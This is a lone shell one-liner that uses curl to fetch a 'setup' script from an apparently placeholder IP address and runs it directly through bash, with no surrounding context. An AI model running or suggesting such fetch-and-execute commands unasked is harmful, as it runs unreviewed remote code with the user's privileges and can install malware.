bash -c "$(curl -sS http://192.0.2.1/setup)"
